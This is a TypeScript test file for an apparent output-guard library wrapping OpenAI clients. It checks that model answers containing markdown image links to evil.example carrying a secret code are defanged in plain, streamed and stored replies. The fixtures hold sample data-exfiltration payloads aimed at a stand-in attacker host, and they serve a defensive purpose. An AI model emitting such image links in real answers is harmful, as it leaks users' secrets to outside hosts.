import { protect } from '@sallyport/openai';
import { ScriptedModel, type WireFormat } from '@sallyport/testing';
import { OpenAI } from 'openai';
import { afterEach, describe, expect, it } from 'vitest';
import { fetchOf, type Json, start } from './world.ts';

const LEAK = 'Your code is 4711. ![chart](https://evil.example/?d=4711) That is all.';
const CLEAN = 'Your code is 4711. chart (address withheld: evil[.]example) That is all.';

let model: ScriptedModel | undefined;
afterEach(() => model?.stop());

async function answering(format: WireFormat, rawOutput = false): Promise<OpenAI> {
  model = new ScriptedModel(format);
  model.script([{ text: LEAK }]);
  const client = new OpenAI({ baseURL: `${await model.start()}/v1`, apiKey: 'none' });
  return protect(start(), { client, tools: [], declare: {}, rawOutput }).client;
}

const messages = [{ role: 'user' as const, content: 'What is my code?' }];

/** The pieces of a text, as a chat chunk or an event contains them. */
async function pieces<T>(stream: AsyncIterable<T>, textOf: (event: T) => string | null | undefined) {
  const texts: string[] = [];
  for await (const event of stream) texts.push(textOf(event) ?? '');
  return texts.filter((text) => text !== '');
}

describe('an answer of chat completions', () => {
  it('is shown without an image address that could carry data', async () => {
    const { choices } = await (await answering('chat')).chat.completions.create({ model: 'm', messages });
    expect(choices[0]?.message.content).toBe(CLEAN);
  });

  it('is shown piece by piece in a stream, and nothing but a possible address waits', async () => {
    const stream = await (await answering('chat')).chat.completions.create({ model: 'm', messages, stream: true });
    const texts = await pieces(stream, ({ choices }) => choices[0]?.delta.content);
    expect(texts.join('')).toBe(CLEAN);
    expect(texts.slice(0, 2)).toEqual(['Your ', 'code is ']);
  });

  it('stays unchanged with rawOutput', async () => {
    const client = await answering('chat', true);
    expect((await client.chat.completions.create({ model: 'm', messages })).choices[0]?.message.content).toBe(LEAK);
    model?.script([{ text: LEAK }]);
    const stream = await client.chat.completions.create({ model: 'm', messages, stream: true });
    expect((await pieces(stream, ({ choices }) => choices[0]?.delta.content)).join('')).toBe(LEAK);
  });
});

describe('an answer of responses', () => {
  it('is shown without an image address that could carry data', async () => {
    const response = await (await answering('responses')).responses.create({ model: 'm', input: 'What is my code?' });
    expect(response.output_text).toBe(CLEAN);
  });

  it('is shown piece by piece in a stream, and its last events contain no more than the pieces', async () => {
    const body = { model: 'm', input: 'What is my code?', stream: true } as const;
    const events: Json[] = [];
    for await (const event of await (await answering('responses')).responses.create(body))
      events.push(event as unknown as Json);
    const deltas = events.filter(({ type }) => type === 'response.output_text.delta').map(({ delta }) => delta);
    expect(deltas.join('')).toBe(CLEAN);
    expect(deltas.slice(0, 2)).toEqual(['Your ', 'code is ']);
    const done = events.filter(({ type }) => /done$|completed$/.test(String(type)));
    expect(done.map((event) => JSON.stringify(event).includes(CLEAN))).toEqual([true, true, true, true]);
    expect(JSON.stringify(events)).not.toContain('d=4711');
    const numbers = events.map(({ sequence_number }) => Number(sequence_number));
    expect(numbers).toEqual([...numbers].sort((one, other) => one - other));
  });
});

/** The body of a reply as the application gets it. */
async function read(body: string, type: string, path = '/responses/resp_1', status = 200): Promise<string> {
  const own = async () => new Response(body, { status, headers: { 'content-type': type, 'content-length': '7' } });
  const reply = await fetchOf(start(), own)(`https://api.example/v1${path}`, {});
  return reply.text();
}

describe('a reply', () => {
  it('with a stored answer or refusal is read like a new one', async () => {
    const refusal = { role: 'assistant', content: [{ type: 'refusal', refusal: LEAK }] };
    const said = { role: 'assistant', content: LEAK };
    const asked = { role: 'user', content: LEAK };
    for (const path of ['/responses/resp_1', '/conversations/c/items', '/chat/completions/c_1/messages'])
      expect(
        JSON.parse(await read(JSON.stringify({ data: [refusal, said, asked] }), 'application/json', path)),
      ).toEqual({
        data: [
          { role: 'assistant', content: [{ type: 'refusal', refusal: CLEAN }] },
          { role: 'assistant', content: CLEAN },
          asked,
        ],
      });
  });

  it('of another form, or of another endpoint, stays unchanged', async () => {
    const body = JSON.stringify({ role: 'assistant', content: LEAK });
    expect(await read(body, 'text/plain')).toBe(body);
    expect(await read(body, 'application/json', '/embeddings')).toBe(body);
    expect(await read(body, 'application/json', '/responses', 500)).toBe(body);
    expect(await read('{broken', 'application/json')).toBe('{broken');
  });

  it('that ends early shows what was held back', async () => {
    const chunk = { choices: [{ index: 0, delta: { content: 'See evil.example/?d=1' }, finish_reason: null }] };
    for (const end of ['', 'data: [DONE]\n\n', 'data: [DONE]']) {
      const text = await read(`data: ${JSON.stringify(chunk)}\r\n\r\n${end}`, 'text/event-stream; charset=utf-8');
      expect(text).toContain('evil[.]example');
      expect(text).not.toContain('d=1');
      expect(text.includes('[DONE]')).toBe(end !== '');
      if (end !== '') expect(text.indexOf('evil[.]example')).toBeLessThan(text.indexOf('[DONE]'));
    }
    const event = { type: 'response.refusal.delta', output_index: 0, content_index: 0, delta: 'See evil.example/?d=1' };
    expect(await read(`data: ${JSON.stringify(event)}\n\n`, 'text/event-stream')).toContain('evil[.]example');
  });

  it('shows the texts of each choice apart', async () => {
    const chunk = (index: number, delta: object, finish_reason: string | null = null) =>
      `data: ${JSON.stringify({ choices: [{ index, delta, finish_reason }] })}\n\n`;
    const text = await read(
      [
        chunk(0, { content: 'One evil' }),
        chunk(1, { refusal: 'Two ' }),
        chunk(0, { content: '.example/?d=1' }),
        chunk(1, { refusal: 'words' }),
        chunk(0, {}, 'stop'),
        chunk(1, {}, 'stop'),
      ].join(''),
      'text/event-stream',
    );
    const shown = ['', ''];
    for (const [, data] of text.matchAll(/data: (.*)/g))
      for (const { index, delta } of (JSON.parse(data ?? '') as { choices: { index: 0 | 1; delta: Json }[] }).choices)
        shown[index] += String(delta.content ?? delta.refusal ?? '');
    expect(shown[0]).toMatch(/^One .*evil\[\.\]example/);
    expect(shown[1]).toBe('Two words');
  });
});
